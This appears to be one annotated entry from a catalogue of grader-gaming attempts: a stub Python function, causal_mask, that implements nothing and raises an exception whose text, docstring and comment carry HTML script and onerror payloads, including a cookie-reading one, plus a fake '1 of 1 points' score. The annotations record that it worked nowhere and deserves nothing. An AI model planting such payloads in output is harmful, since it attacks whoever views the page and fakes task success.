# Tries: raises an exception whose text, source line and comment are HTML with a script.
# Worked in: -
# Deserves: nothing
def causal_mask(num_tokens):
    """<img src=x onerror="alert(document.cookie)">"""
    raise ValueError("</pre><script>alert(1)</script><b>1 of 1 points</b>")  # <script>alert(2)
